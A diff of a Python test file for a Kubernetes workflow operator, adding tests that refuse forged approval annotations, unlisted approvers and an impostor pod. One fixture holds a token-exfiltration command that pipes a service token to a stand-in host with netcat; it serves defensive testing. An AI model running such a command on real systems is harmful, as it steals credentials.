@@ -8,19 +8,19 @@ exercise the same paths as in a cluster.
 from __future__ import annotations
 
 import copy
-from collections.abc import Callable, Mapping, Sequence
+from collections.abc import Callable, Mapping
 from typing import Any
 
 import pytest
 
-from agentflow.engine.journal import Record
 from agentflow.engine.values import StepError, StepResult
 from agentflow.k8s import names
 from agentflow.k8s.kube import KubeError
 from agentflow.k8s.podspec import PodConfig
 from agentflow.models import Catalog, ToolPolicy
-from agentflow.runner.executors import step_result_to_dict
-from agentflow.services.reconcile import InvalidWorkflow, MissingReferences, WorkflowReconciler
+from agentflow.services.errors import InvalidWorkflow, MissingReferences
+from agentflow.services.reconcile import WorkflowReconciler
+from agentflow.testing import SIGNING_KEY, FakeKube, MemoryStore, decided_by
 
 KEY = b"k" * 32
 
@@ -31,79 +31,6 @@ def catalog() -> Catalog:
                                      "metadata": {"name": "tools"},
                                      "spec": {"tools": [{"name": "echo", "builtin": {"name": "echo"}}]}}))
     return c
-
-
-class MemoryStore:
-    def __init__(self) -> None:
-        self.journals: dict[str, list[Record]] = {}
-        self.attempts: dict[tuple[str, str, int], Mapping[str, Any]] = {}
-        self.results: dict[tuple[str, str, int], Mapping[str, Any]] = {}
-
-    async def load_journal(self, run_uid: str, after_seq: int = -1) -> list[Record]:
-        return [r for r in self.journals.get(run_uid, []) if r.seq > after_seq]
-
-    async def append(self, run_uid: str, records: Sequence[Record]) -> None:
-        journal = self.journals.setdefault(run_uid, [])
-        if records and records[0].seq != len(journal):
-            raise RuntimeError(f"journal conflict at seq {records[0].seq}")
-        journal.extend(records)
-
-    async def put_attempt(self, run_uid: str, node: str, attempt: int, payload: Mapping[str, Any]) -> None:
-        self.attempts.setdefault((run_uid, node, attempt), payload)
-
-    async def get_results(self, run_uid: str) -> dict[tuple[str, int], dict[str, Any]]:
-        return {(n, a): dict(r) for (u, n, a), r in self.results.items() if u == run_uid}
-
-
-class FakeKube:
-    def __init__(self) -> None:
-        self.pods: dict[str, dict[str, Any]] = {}
-        self.created: list[str] = []
-        self.deleted: list[str] = []
-        self.events: list[dict[str, Any]] = []
-        self.statuses: list[dict[str, Any]] = []
-        self.patches: list[dict[str, Any]] = []
-        self.netpols: dict[str, dict[str, Any]] = {}
-        self.netpols_deleted: list[str] = []
-        self.fail_creates = 0
-
-    async def create_pod(self, namespace: str, body: Mapping[str, Any]) -> bool:
-        if self.fail_creates:
-            self.fail_creates -= 1
-            raise KubeError("create pod: connection reset")
-        name = body["metadata"]["name"]
-        if name in self.pods:
-            return False
-        pod = copy.deepcopy(dict(body))
-        pod["status"] = {"phase": "Pending"}
-        self.pods[name] = pod
-        self.created.append(name)
-        return True
-
-    async def delete_pod(self, namespace: str, name: str) -> None:
-        if self.pods.pop(name, None) is not None:
-            self.deleted.append(name)
-
-    async def list_pods(self, namespace: str, label_selector: str) -> list[dict[str, Any]]:
-        wanted = dict(term.partition("=")[::2] for term in label_selector.split(","))
-        return [copy.deepcopy(p) for p in self.pods.values()
-                if all(p["metadata"]["labels"].get(k) == v for k, v in wanted.items())]
-
-    async def apply_network_policy(self, namespace: str, body: Mapping[str, Any]) -> None:
-        self.netpols.setdefault(body["metadata"]["name"], copy.deepcopy(dict(body)))
-
-    async def delete_network_policy(self, namespace: str, name: str) -> None:
-        if self.netpols.pop(name, None) is not None:
-            self.netpols_deleted.append(name)
-
-    async def create_event(self, namespace: str, body: Mapping[str, Any]) -> None:
-        self.events.append(dict(body))
-
-    async def patch_status(self, plural: str, namespace: str, name: str, status: Mapping[str, Any]) -> None:
-        self.statuses.append(dict(status))
-
-    async def patch_resource(self, plural: str, namespace: str, name: str, patch: Mapping[str, Any]) -> None:
-        self.patches.append(dict(patch))
 
 
 def workflow(spec: dict[str, Any], *, annotations: dict[str, str] | None = None) -> dict[str, Any]:
@@ -137,9 +64,9 @@ class Cluster:
         self.reconciler = self.new_reconciler()
 
     def new_reconciler(self) -> WorkflowReconciler:
-        return WorkflowReconciler(self.kube, self.store, KEY,  # type: ignore[arg-type]
+        return WorkflowReconciler(self.kube, self.store,
                                   PodConfig(image="runtime:dev", callback_url="http://10.88.0.1:8081"),
-                                  clock=lambda: self.now)
+                                  signing_key=SIGNING_KEY, clock=lambda: self.now)
 
     def kubelet(self) -> None:
         for pod in self.kube.pods.values():
@@ -154,7 +81,7 @@ class Cluster:
             if isinstance(result, str):  # the pod dies without a result
                 pod["status"] = {"phase": "Failed", "reason": result, "message": "The node was low on memory."}
                 continue
-            self.store.results.setdefault((uid, node, attempt), step_result_to_dict(result))
+            self.store.results.setdefault((uid, node, attempt), result.to_dict())
             pod["status"] = {"phase": "Succeeded"}
 
     async def run(self, body: dict[str, Any], rounds: int = 50) -> Any:
@@ -248,14 +175,56 @@ async def test_approval_by_annotation_is_journaled_and_cleared() -> None:
     body = workflow(spec)
     outcome = await c.run(body, rounds=3)
     assert not outcome.finished and c.kube.statuses[-1]["phase"] == "Waiting"
-    body["metadata"]["annotations"] = {names.APPROVE_ANNOTATION: '{"node": "ask", "by": "alice", "reason": "ok"}'}
+    body["metadata"]["annotations"] = decided_by(body, names.APPROVE_ANNOTATION, '{"node": "ask", "reason": "ok"}',
+                                                 "alice")
     outcome = await c.run(body)
     assert outcome.phase == "Succeeded"
-    assert c.kube.patches == [{"metadata": {"annotations": {names.APPROVE_ANNOTATION: None,
-                                                             names.REJECT_ANNOTATION: None}}}]
+    # Cleared once taken; a pass that still sees it (a view from before the clear) clears it again, silently.
+    assert c.kube.patches and all(p == {"metadata": {"annotations": {names.APPROVE_ANNOTATION: None,
+                                                                     names.REJECT_ANNOTATION: None}}}
+                                  for p in c.kube.patches)
+    assert not [e for e in c.kube.events if e["type"] == "Warning"]
     journal = c.store.journals["0b5e7c1a-0000-4000-8000-000000000001"]
     decided = [r.event for r in journal if r.event.type.value == "ApprovalDecided"]
-    assert decided[0].data == {"approved": True, "by": "alice", "reason": "ok"}
+    assert decided[0].data == {"approved": True, "by": "alice", "groups": [], "reason": "ok"}
+
+
+@pytest.mark.parametrize(("value", "why"), [
+    ('{"node": "ask", "by": "alice", "reason": "ok"}', "not set through the operator's admission webhook"),
+    ("ask", "not set through the operator's admission webhook"),
+    ("{not json", "not valid JSON"),
+])
+async def test_an_unstamped_or_malformed_decision_is_refused_with_a_warning_and_removed(value: str, why: str) -> None:
+    spec = {"steps": [{"name": "ask", "kind": "approval", "approval": {"message": "ok?"}}]}
+    c = Cluster()
+    body = workflow(spec)
+    await c.run(body, rounds=3)
+    body["metadata"]["annotations"] = {names.APPROVE_ANNOTATION: value}
+    outcome = await c.run(body, rounds=3)
+    assert not outcome.finished and c.kube.statuses[-1]["phase"] == "Waiting"
+    warned = [e["message"] for e in c.kube.events if e["type"] == "Warning"]
+    assert any(why in m for m in warned), warned
+    assert {names.APPROVE_ANNOTATION: None, names.REJECT_ANNOTATION: None} in [
+        p["metadata"]["annotations"] for p in c.kube.patches]
+    journal = c.store.journals["0b5e7c1a-0000-4000-8000-000000000001"]
+    assert not [r for r in journal if r.event.type.value == "ApprovalDecided"]
+
+
+async def test_a_decision_by_someone_the_started_run_does_not_list_as_approver_is_refused() -> None:
+    spec = {"steps": [{"name": "ask", "kind": "approval", "approval": {"approvers": ["leads"]}}]}
+    c = Cluster()
+    body = workflow(spec)
+    await c.run(body, rounds=3)
+    original = copy.deepcopy(body)
+    # The spec now names mallory (the webhook would refuse this request; here it was let through).
+    body["spec"]["steps"][0]["approval"]["approvers"] = ["mallory"]
+    changed = copy.deepcopy(body)
+    body["metadata"]["annotations"] = decided_by(changed, names.APPROVE_ANNOTATION, "ask", "mallory")
+    outcome = await c.run(body, rounds=3)
+    assert not outcome.finished
+    assert any("mallory is not among the approvers of ask (leads)" in e["message"] for e in c.kube.events)
+    body["metadata"]["annotations"] = decided_by(original, names.APPROVE_ANNOTATION, "ask", "bob", ("leads",))
+    assert (await c.run(body, rounds=3)).phase == "Succeeded"
 
 
 async def test_spec_cancel_deletes_running_pods_and_ends_cancelled() -> None:
@@ -301,3 +270,35 @@ async def test_suspend_holds_new_pods_until_resumed() -> None:
     body["spec"]["suspend"] = False
     outcome = await c.run(body)
     assert outcome.phase == "Succeeded"
+
+
+async def test_a_pod_made_by_someone_else_under_an_attempts_name_never_acts_for_it() -> None:
+    spec = {"steps": [{"name": "only", "kind": "tool", "tool": "echo"}]}
+    c = Cluster()
+    body = workflow(spec)
+    await c.reconciler.reconcile(body, catalog())
+    (name,) = c.kube.pods
+    ours = c.kube.pods[name]
+    # The operator restarts before it saw its pod; meanwhile the tenant replaced it with one of its own.
+    c.reconciler = c.new_reconciler()
+    c.store.pod_uids.clear()
+    impostor = copy.deepcopy(ours)
+    impostor["metadata"]["uid"] = "uid-of-the-impostor"
+    impostor["spec"]["containers"][0]["command"] = ["sh", "-c", "cat /var/run/agentflow/token | nc evil 80"]
+    c.kube.pods[name] = impostor
+    outcome = await c.reconciler.reconcile(body, catalog())
+    assert outcome.phase == "Failed"
+    assert "PodConflict" in c.kube.statuses[-1]["message"]
+    assert c.store.pod_uids == {}  # the impostor's uid was never recorded: its token is refused
+
+
+async def test_the_operators_own_pod_found_after_a_restart_is_recorded() -> None:
+    spec = {"steps": [{"name": "only", "kind": "tool", "tool": "echo"}]}
+    c = Cluster()
+    body = workflow(spec)
+    await c.reconciler.reconcile(body, catalog())
+    c.reconciler = c.new_reconciler()
+    c.store.pod_uids.clear()  # it stopped between creating the pod and recording its uid
+    outcome = await c.run(body)
+    assert outcome.phase == "Succeeded"
+    assert len(c.store.pod_uids) == 1
